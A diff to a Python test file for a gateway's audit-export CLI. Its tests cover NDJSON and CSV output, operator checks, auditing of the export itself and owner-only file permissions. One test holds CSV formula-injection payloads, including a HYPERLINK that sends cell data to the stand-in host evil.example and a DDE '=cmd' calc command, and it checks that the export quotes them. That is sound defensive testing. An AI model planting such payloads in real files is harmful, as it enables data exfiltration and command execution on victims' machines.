@@ -1,24 +1,30 @@
-"""`gateway audit export`: NDJSON that verifies offline by the chain, flattened CSV, and an
-application's scope with --as; the export is itself audited."""
+"""`gateway audit export`: NDJSON that verifies offline by the chain, flattened CSV that a
+spreadsheet will not run, owner-only files, and an active application's scope with --as; the export
+is itself audited, naming its operator, scope and filter."""
 
 from __future__ import annotations
 
 import csv
 import io
 import json
+import stat
 import subprocess
 import sys
 from pathlib import Path
 from typing import Any
 
 import pytest
+from sqlalchemy import update
 
+from audit import AuditRecord
 from audit.chain import chain_hash
 from audit.query import CSV_COLUMNS
+from store import tables as t
 from tests.support import Gateway
 
 MZ_READS_GA = '{ person(idNumber: "%s") { name mobile } }'
 MZ_READS_FG = '{ person(idNumber: "%s") { dishonestDebtor } }'
+OPERATOR = "sj-zhoumin"
 
 
 def gateway_cli(*args: str) -> subprocess.CompletedProcess[str]:
@@ -37,8 +43,13 @@ async def traffic(gateway: Gateway) -> list[dict[str, Any]]:
     return records
 
 
+def export(data_dir: Path, fmt: str, *args: str, operator: str | None = OPERATOR) -> subprocess.CompletedProcess[str]:
+    who = ["--operator", operator] if operator is not None else []
+    return gateway_cli("audit", "export", "--format", fmt, "--data-dir", str(data_dir), *who, *args)
+
+
 def ndjson(data_dir: Path, *args: str) -> list[str]:
-    result = gateway_cli("audit", "export", "--format", "ndjson", "--data-dir", str(data_dir), *args)
+    result = export(data_dir, "ndjson", *args)
     assert result.returncode == 0, result.stderr
     return result.stdout.splitlines()
 
@@ -62,8 +73,7 @@ async def test_ndjson_export_verifies_offline_by_the_chain(gateway: Gateway, tra
 
 async def test_csv_export_flattens_each_record(gateway: Gateway, traffic: list[dict[str, Any]], data_dir: Path) -> None:
     out = data_dir / "audit.csv"
-    result = gateway_cli("audit", "export", "--format", "csv", "--application", "mz-assistance", "--out", str(out),
-                         "--data-dir", str(data_dir))
+    result = export(data_dir, "csv", "--application", "mz-assistance", "--out", str(out))
     assert result.returncode == 0, result.stderr
     rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"))))
     assert tuple(rows[0]) == CSV_COLUMNS
@@ -91,7 +101,66 @@ async def test_export_filters_by_time_and_refuses_what_it_cannot_use(gateway: Ga
                                                                      data_dir: Path) -> None:
     assert ndjson(data_dir, "--to", "2020-01-01") == []
     assert len(ndjson(data_dir, "--from", "2020-01-01", "--department", "MZ")) == 2
-    unknown = gateway_cli("audit", "export", "--format", "ndjson", "--as", "nobody", "--data-dir", str(data_dir))
+    unknown = export(data_dir, "ndjson", "--as", "nobody")
     assert unknown.returncode == 2 and "no application 'nobody'" in unknown.stderr
-    bad = gateway_cli("audit", "export", "--format", "ndjson", "--from", "soon", "--data-dir", str(data_dir))
+    bad = export(data_dir, "ndjson", "--from", "soon")
     assert bad.returncode == 2 and "not an ISO date" in bad.stderr
+
+
+async def test_export_refuses_an_inactive_application(gateway: Gateway, traffic: list[dict[str, Any]],
+                                                      data_dir: Path) -> None:
+    async with gateway.runtime.store_engine.begin() as conn:
+        await conn.execute(update(t.applications).where(t.applications.c.id == "fg-credit").values(active=False))
+    result = export(data_dir, "ndjson", "--as", "fg-credit")
+    assert result.returncode == 2 and "inactive application 'fg-credit'" in result.stderr and result.stdout == ""
+    assert (await gateway.runtime.audit.records(limit=1))[0]["operation"] != "audit.export"
+
+
+async def test_export_names_its_operator_scope_and_filter(gateway: Gateway, traffic: list[dict[str, Any]],
+                                                          data_dir: Path) -> None:
+    lines = ndjson(data_dir, "--as", "fg-credit", "--from", "2024-05-01", "--department", "MZ")
+    [record] = await gateway.runtime.audit.records(limit=1)
+    assert record["operation"] == "audit.export" and record["operator"] == OPERATOR
+    assert (record["application"], record["department"]) == ("fg-credit", "FG")
+    assert record["fields"] == {"export:format": "ndjson", "export:scope": "department:FG",
+                                "export:from": "2024-04-30T16:00:00+00:00", "export:department": "MZ"}
+    assert lines and all(json.loads(line)["record"]["department"] == "MZ" for line in lines)
+    ndjson(data_dir)
+    [full] = await gateway.runtime.audit.records(limit=1)
+    assert full["fields"] == {"export:format": "ndjson", "export:scope": "everything"} and full["operator"] == OPERATOR
+
+
+@pytest.mark.parametrize("operator", [None, "nobody", "rs-liuyang"])
+async def test_export_needs_a_registered_active_operator(gateway: Gateway, traffic: list[dict[str, Any]],
+                                                         data_dir: Path, operator: str | None) -> None:
+    async with gateway.runtime.store_engine.begin() as conn:
+        await conn.execute(update(t.operators).where(t.operators.c.id == "rs-liuyang").values(active=False))
+    result = export(data_dir, "ndjson", operator=operator)
+    assert result.returncode == 2 and result.stdout == "" and "--operator" in result.stderr
+    assert (await gateway.runtime.audit.records(limit=1))[0]["operation"] != "audit.export"  # nothing left, nothing noted
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(gateway: Gateway, data_dir: Path) -> None:
+    await gateway.runtime.audit.append(AuditRecord(
+        request_id="+1+1", at="2024-05-01T00:00:00+00:00", operation="query", outcome="REFUSED",
+        application="-2+3", operator='=HYPERLINK("http://evil.example/?"&A1)', purpose="@SUM(A1:A9)",
+        department="\tMZ", code="\r=1", fields={"=cmd|' /C calc'!A0": "RAW"}))
+    out = data_dir / "audit.csv"
+    assert export(data_dir, "csv", "--out", str(out), "--to", "2024-05-01").returncode == 0
+    with out.open(encoding="utf-8", newline="") as handle:  # newline="": a quoted CR stays a CR
+        [row] = [dict(zip(CSV_COLUMNS, r, strict=True)) for r in list(csv.reader(handle))[1:]]
+    assert row["request_id"] == "'+1+1" and row["application"] == "'-2+3" and row["purpose"] == "'@SUM(A1:A9)"
+    assert row["operator"] == '\'=HYPERLINK("http://evil.example/?"&A1)' and row["department"] == "'\tMZ"
+    assert row["code"] == "'\r=1" and row["fields"] == "'=cmd|' /C calc'!A0=RAW"
+    assert row["outcome"] == "REFUSED" and row["at"].startswith("2024")  # ordinary cells are left alone
+
+
+@pytest.mark.parametrize("fmt", ["csv", "ndjson"])
+async def test_export_files_are_readable_by_their_owner_only(gateway: Gateway, data_dir: Path, fmt: str) -> None:
+    fresh, existing = data_dir / f"fresh.{fmt}", data_dir / f"existing.{fmt}"
+    existing.write_text("old contents that were world-readable\n")
+    existing.chmod(0o644)
+    for out in (fresh, existing):
+        assert export(data_dir, fmt, "--out", str(out)).returncode == 0
+        assert stat.S_IMODE(out.stat().st_mode) == 0o600
+    assert "world-readable" not in existing.read_text()
